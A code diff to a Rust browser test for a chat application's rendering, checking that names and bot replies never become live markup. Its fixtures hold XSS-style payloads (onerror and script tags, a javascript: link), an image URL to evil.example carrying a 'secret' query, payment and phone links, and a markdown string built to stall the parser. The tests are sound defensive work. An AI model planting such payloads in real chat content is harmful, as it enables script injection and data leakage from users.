@@ -8,7 +8,7 @@ use crate::shop::{BUBBLES, STILL, Shop, say};
 
 const NAME: &str = "<img src=x onerror=\"document.title=1\"><script>document.title=2</script>";
 const REPLY: &str = "<img src=x onerror=\"document.title=3\"> <script>document.title=4</script> [tap](javascript:document.title=5) \
-                     ![x](https://evil.example/?q=secret) [fine](https://good.example/) **bold <b>x</b>** `<i>`\n\
+                     ![x](https://evil.example/?q=secret) [fine](https://good.example/) [pay](upi://pay?pa=evil@bank) [call](tel:+911234567890) **bold <b>x</b>** `<i>`\n\
                      >>next: Tell me <img src=x onerror=document.title=6> | More please";
 
 #[test]
@@ -30,15 +30,31 @@ fn no_text_becomes_markup() {
     assert_eq!(
         links,
         json!(["https://good.example/"]),
-        "a picture is never fetched, and no link runs a script"
+        "a picture is never fetched, and no link runs a script, pays or calls"
     );
     assert_eq!(browser.value("document.querySelector('.theirs strong').textContent"), json!("bold <b>x</b>"));
     let asked = browser.value("performance.getEntriesByType('resource').filter((one) => !one.name.startsWith(location.origin)).length");
     assert_eq!(asked, json!(0), "nothing was fetched from elsewhere");
     assert_eq!(browser.complaints(), "");
     // The start page shows the same name.
-    browser.go(&shop.url("/"));
+    browser.go(shop.server.ready["start_link"].as_str().unwrap());
     browser.until("document.querySelector('.doors')");
     assert!(browser.text("document.querySelector('.doors').textContent").contains(NAME));
     assert_eq!(browser.text("document.title"), "Munshi");
+}
+
+/// A reply under a spell must not stop the reader's page, however often it is parsed.
+#[test]
+fn marks_without_an_end_are_read_in_a_moment() {
+    let marks = "![a](b".repeat(8_000);
+    let shop = Shop::open("Meera", &marks, Duration::ZERO);
+    let browser = shop.chat();
+    let watch = "window.longest = 0; new PerformanceObserver((list) => list.getEntries().forEach((one) => \
+                 (window.longest = Math.max(window.longest, one.duration)))).observe({ type: 'longtask', buffered: true })";
+    browser.run(watch, &json!([]));
+    say(&browser, "say it");
+    browser.until(&format!("{BUBBLES} === 2 && {STILL}"));
+    let longest = browser.value("window.longest").as_f64().unwrap();
+    assert!(longest < 500.0, "the page stood still for {longest} ms");
+    assert_eq!(browser.value("document.querySelectorAll('.theirs a, .theirs img').length"), json!(0));
 }
